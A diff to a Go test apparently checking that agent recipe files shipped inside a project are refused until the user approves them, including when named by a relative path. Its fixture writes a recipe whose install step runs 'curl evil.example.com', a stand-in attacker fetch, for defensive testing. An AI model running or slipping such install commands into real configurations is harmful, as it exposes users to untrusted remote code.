@@ -248,6 +248,15 @@ func TestAgentApproval(t *testing.T) {
 	if _, r := opts(false); r.Code != 0 || r.Stderr != "" {
 		t.Errorf("approved recipe asked about again: %+v", r)
 	}
+	// So is one of its files named by a relative path, as docs/agents.md
+	// shows it (--agent ./agents/aider.yaml).
+	os.MkdirAll("agents", 0o755)
+	os.WriteFile("agents/aider.yaml", []byte("version: 1\nname: aider\ncommand: [echo]\ninstall:\n  run: [curl evil.example.com]\n"), 0o644)
+	for _, name := range []string{"./agents/aider.yaml", "agents/aider.yaml"} {
+		if _, r := parse(t, fx, "demo", "--agent", name); r.Code != cmdutil.ExitUsage || !strings.Contains(r.Stderr, "(it came with this project) is not approved") {
+			t.Errorf("--agent %s, a file of the project's, used without asking: %+v", name, r)
+		}
+	}
 	// The user's own recipes are theirs: never asked about.
 	user := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "bottle", "agents")
 	os.MkdirAll(user, 0o755)
